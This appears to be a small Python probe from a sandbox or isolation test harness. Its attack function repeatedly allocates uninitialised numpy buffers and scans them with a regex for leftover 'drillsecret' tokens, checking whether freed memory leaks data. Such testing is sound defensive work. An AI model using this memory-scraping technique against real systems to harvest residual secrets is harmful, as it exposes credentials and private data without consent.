# Reads what freed memory still holds, through np.empty.
# proof: secret
# needs: numpy
# control: none, because what freed memory holds is chance
import re

import numpy as np


def attack(arg):
    found = set()
    for size in (64, 256, 1024, 4096, 16384, 65536, 1 << 20):
        for _ in range(200):
            found.update(re.findall(rb"drillsecret[0-9a-f]{16}", np.empty(size, dtype=np.uint8).tobytes()))
    return sorted(found)
